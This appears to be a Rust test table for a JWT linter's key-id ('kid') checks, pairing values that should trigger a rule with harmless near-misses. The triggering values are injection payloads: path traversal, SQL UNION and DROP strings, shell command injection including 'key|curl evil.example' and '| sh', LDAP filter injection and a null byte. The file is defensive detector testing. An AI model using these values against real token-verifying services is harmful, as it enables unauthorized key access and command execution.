//! The key id.

use super::*;

/// A row for a key id, as it is spelled in JSON between the quotes.
fn kid(id: &'static str, severity: Severity, fires: &str, nearly: &str) -> Row {
    let with = |kid: &str| format!(r#"{{"alg":"HS256","kid":"{kid}"}}"#);
    header(id, severity, inside(Header, "/kid", &format!("\"{fires}\"")), &with(fires), &with(nearly))
}

pub(super) fn rows() -> Vec<Row> {
    let unnamed = r#"{"alg":"RS256"}"#;
    vec![
        header("kid-missing", Info, segment(Header, encode(unnamed)), unnamed, r#"{"alg":"RS256","kid":"a"}"#),
        header("kid-missing", Info, segment(Header, encode(unnamed)), unnamed, UNTYPED),
        header(
            "kid-type",
            Error,
            inside(Header, "/kid", "1"),
            r#"{"alg":"HS256","kid":1}"#,
            r#"{"alg":"HS256","kid":"1"}"#,
        ),
        kid("kid-path", Error, "../../dev/null", "././dev/key"),
        kid("kid-path", Error, "..%2Fkey", "a.%2Fkey"),
        kid("kid-path", Error, "/keys/a.pem", "/keys/a+b="),
        kid("kid-path", Error, "file:/2026", "profile:/2026"),
        kid("kid-sql", Error, "x' UNION SELECT 'k'--", "x UNION SELECT k"),
        kid("kid-sql", Error, "CN=a;drop table k", "CN=a;O=Drop Box"),
        kid("kid-command", Error, "key.pem;id", "key.pem:id"),
        kid("kid-command", Error, "a | sh", "a|sh"),
        kid("kid-command", Error, "key|curl evil.example", "key|2024"),
        kid("kid-command", Error, "CN=signer;id", "CN=signer;O=Acme"),
        kid("kid-ldap", Error, "*)(uid=*", "(uid=*"),
        kid("kid-ldap", Error, "key)(uid=*", "key (2026)(v2)"),
        kid("kid-control", Error, r"a\u0000.pem", r"a\u0020.pem"),
        kid("kid-url", Info, "https://a.example/k1", "a.example/k1"),
        kid("kid-url", Info, "ldap://a.example/k", "urn:ldap:a.example"),
        kid("kid-url", Info, "did:web:a.example", "dis:web:a.example"),
        kid("kid-odd", Warning, "", "a"),
        kid("kid-odd", Warning, &"a".repeat(257), &"a".repeat(256)),
    ]
}
